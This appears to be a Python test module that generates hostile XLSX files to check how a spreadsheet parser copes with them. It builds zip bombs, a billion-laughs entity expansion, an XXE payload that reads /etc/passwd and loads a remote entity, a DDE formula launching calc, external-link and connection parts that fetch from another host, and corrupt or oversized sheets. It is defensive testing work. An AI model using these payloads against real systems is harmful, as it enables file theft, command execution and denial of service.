"""Hostile Excel files."""

from tests.hostile.attack import MEGABYTE, attacks, elsewhere, packed, packed_bomb, parts_of, with_lying_size
from tests.hostile.word import with_parts
from tests.kinds.cases import report
from tests.kinds.pages import page
from tests.kinds.xlsx_writer import MAIN, sheet_xml, workbook, xlsx

excel = attacks("xlsx", {"formulas_with_links", "fetches", "hidden_all", "far_cell_beside_the_report"})
_SHEET = "xl/worksheets/sheet1.xml"
_ROWS = f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>'.encode()


def _report() -> bytes:
    return xlsx(page(report("full", 0)))


def _with_sheet(inside: bytes) -> bytes:
    return with_parts(_book(), {_SHEET: _ROWS + inside + b"</sheetData></worksheet>"})


def _book(rows: str = "") -> bytes:
    return workbook([sheet_xml(rows)], ["visible"], ["一"])


@excel
def cut_off() -> bytes:
    data = _report()
    return data[: len(data) * 2 // 3]


@excel
def bomb() -> bytes:
    return packed_bomb(_parts(), _SHEET, _ROWS, b" ", 2000 * MEGABYTE)


@excel
def bomb_of_rows() -> bytes:
    return packed_bomb(_parts(), _SHEET, _ROWS, b"<row><c><v>12</v></c></row>", 300 * MEGABYTE)


@excel
def bomb_of_strings() -> bytes:
    name = "xl/sharedStrings.xml"
    return packed_bomb(_parts(name), name, _ROWS, b"<si><t>1</t></si>", 300 * MEGABYTE)


@excel
def bomb_that_says_it_is_small() -> bytes:
    return with_lying_size(bomb_of_rows(), _SHEET.encode(), 1000)


@excel
def far_cell() -> bytes:
    return _with_sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@excel
def far_corners() -> bytes:
    corners = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return _with_sheet(corners)


@excel
def far_cell_beside_the_report() -> bytes:
    return xlsx(page(report("full", 0)), wide=True)


@excel
def beyond_the_sheet() -> bytes:
    return _with_sheet(b'<row r="99999999999"><c r="ZZZZZZZ99999999999"><v>1</v></c><c r="-1"><v>1</v></c></row>')


@excel
def merged_all_over() -> bytes:
    merges = '<mergeCell ref="A1:XFD1048576"/>' * 5000
    return workbook([sheet_xml("<row r='1'><c r='A1'><v>1</v></c></row>", merges=merges)], ["visible"], [])


@excel
def merged_everywhere() -> bytes:
    merges = "".join(f'<mergeCell ref="A{row}:XFD{row}"/>' for row in range(1, 50_000))
    rows = "".join(f"<row r='{row}'><c r='A{row}'><v>1</v></c></row>" for row in range(1, 50_000))
    return workbook([sheet_xml(rows, merges=merges)], ["visible"], [])


@excel
def merged_backwards() -> bytes:
    return workbook([sheet_xml("<row/>", merges='<mergeCell ref="C9:A1"/><mergeCell ref=":"/>')], ["visible"], [])


@excel
def many_cells() -> bytes:
    return _with_sheet((b"<row>" + b"<c><v>1</v></c>" * 1000 + b"</row>") * 2000)


@excel
def many_sheets() -> bytes:
    return workbook([sheet_xml("<row r='1'><c r='A1'><v>1</v></c></row>")] * 3000, ["visible"] * 3000, [])


@excel
def hidden_all() -> bytes:
    return xlsx(page(report("full", 0)), hidden_sheet=True, hidden_row=True)


@excel
def strings_that_are_not_there() -> bytes:
    return _with_sheet(b'<row r="1"><c r="A1" t="s"><v>99999999</v></c><c r="B1" t="s"><v>-1</v></c></row>')


@excel
def numbers_that_are_none() -> bytes:
    return _with_sheet(b'<row r="1"><c r="A1"><v>1e999999</v></c><c r="B1" s="999999"><v>x</v></c></row>')


@excel
def long_number() -> bytes:
    return _with_sheet(b'<row r="1"><c r="A1"><v>' + b"9" * 5_000_000 + b"</v></c></row>")


@excel
def formulas_with_links() -> bytes:
    cells = (
        b'<f>WEBSERVICE("' + elsewhere() + b'")</f>',
        b"<f>[1]Sheet1!A1</f>",
        b'<f>HYPERLINK("' + elsewhere() + b'",1)</f>',
        b"<f>cmd|'/c calc'!A0</f>",
    )
    row = b"".join(b'<c r="%c9">%s<v>1</v></c>' % (65 + place, cell) for place, cell in enumerate(cells))
    link = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="'
        + elsewhere()
        + b'/a.xlsx" TargetMode="External"/></Relationships>'
    )
    data = xlsx(page(report("full", 0)))
    return with_parts(data, {"xl/externalLinks/_rels/externalLink1.xml.rels": link, "xl/formulas.xml": row})


@excel
def fetches() -> bytes:
    return with_parts(_report(), {"xl/connections.xml": b'<connections url="' + elsewhere() + b'"/>'})


@excel
def laughs() -> bytes:
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    head = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "ha">' + entities + b"]>"
    cell = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&a11;</t></is></c></row></sheetData></worksheet>'
    return with_parts(_book(), {_SHEET: head + _ROWS.partition(b"?>")[2] + cell})


@excel
def external_entity() -> bytes:
    head = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % c SYSTEM "'
        + elsewhere()
        + b'/c">%c;]>'
    )
    cell = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row></sheetData></worksheet>'
    return with_parts(_book(), {_SHEET: head + _ROWS.partition(b"?>")[2] + cell})


@excel
def nested() -> bytes:
    return _with_sheet(b"<row>" * 200_000)


@excel
def binary_workbook() -> bytes:
    return packed({"xl/workbook.bin": bytes(5000), "[Content_Types].xml": b"<Types/>"})


@excel
def no_sheet() -> bytes:
    return packed({"xl/workbook.xml": f'<workbook xmlns="{MAIN}"><sheets/></workbook>'.encode()})


@excel
def not_xml() -> bytes:
    return with_parts(_book(), {_SHEET: b"\xff\xfe\x00<" * 1000})


def _parts(without: str = _SHEET) -> dict[str, bytes]:
    return {name: content for name, content in parts_of(_book()).items() if name != without}
